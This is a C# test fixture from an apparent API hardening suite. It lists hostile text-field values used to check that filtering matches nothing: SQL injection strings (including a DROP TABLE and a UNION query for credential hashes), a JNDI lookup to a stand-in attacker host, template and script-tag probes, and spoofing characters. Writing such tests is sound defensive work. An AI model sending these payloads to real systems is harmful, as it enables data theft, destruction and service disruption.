namespace Entitle.Tests.Hardening.Hostile;

/// <summary>
/// A value an attacker or a broken client puts in a text field. <see cref="Encoded"/> is how it travels in a URL
/// or form body; for a lone surrogate, which UTF-8 cannot carry, that is the bytes of an encoded surrogate.
/// </summary>
public sealed record HostileString(string Name, string Text, string Encoded)
{
    /// <summary>Values that no stored row equals: filtering by any of them with <c>eq</c> must match nothing.</summary>
    public static readonly IReadOnlyList<HostileString> All =
    [
        Of("sql-or-true", "' OR 1=1 --"),
        Of("sql-or-true-double-quoted", "\" OR \"\"=\""),
        Of("sql-drop-table", "\"; DROP TABLE passes; --"),
        Of("sql-union", "' UNION SELECT secret_hash FROM credentials --"),
        Of("sql-sleep", "'; SELECT pg_sleep(30); --"),
        Of("sql-sqlite-blob", "' || randomblob(1000000000) || '"),
        Of("like-percent", "%"),
        Of("like-underscore", "_"),
        Of("backslash", "\\"),
        Of("like-percent-comment", "%' --"),
        Of("nul", "a\u0000b"),
        Of("jndi", "${jndi:ldap://attacker.invalid/a}"),
        Of("template", "{{7*7}}<%= 7*7 %>#{7*7}"),
        Of("html", "<script>alert(1)</script>"),
        Of("rtl-emoji", "\u202Egnp.exe\u202C 👩‍💻🔥 مرحبا עברית"),
        Of("control-characters", "\u0001\u001b[31m\r\nx"),
        new("lone-surrogate", "x\ud800", "x%ED%A0%80"),
        Of("empty", ""),
        Of("long-1000", new string('z', 1000)),
        Of("long-5000", new string('z', 5000)),
    ];

    /// <summary>A few of <see cref="All"/>, for the operations sent with fewer values than <c>eq</c>.</summary>
    public static readonly IReadOnlyList<HostileString> Few = [.. All.Where(s => s.Name is "sql-or-true" or "backslash" or "nul")];

    public static HostileString Named(string name) => All.Single(s => s.Name == name);

    /// <summary>Whether the TMS API reads it as absent (empty parameters count as absent).</summary>
    public bool IsBlank => string.IsNullOrWhiteSpace(Text);

    private static HostileString Of(string name, string text) => new(name, text, Uri.EscapeDataString(text));
}
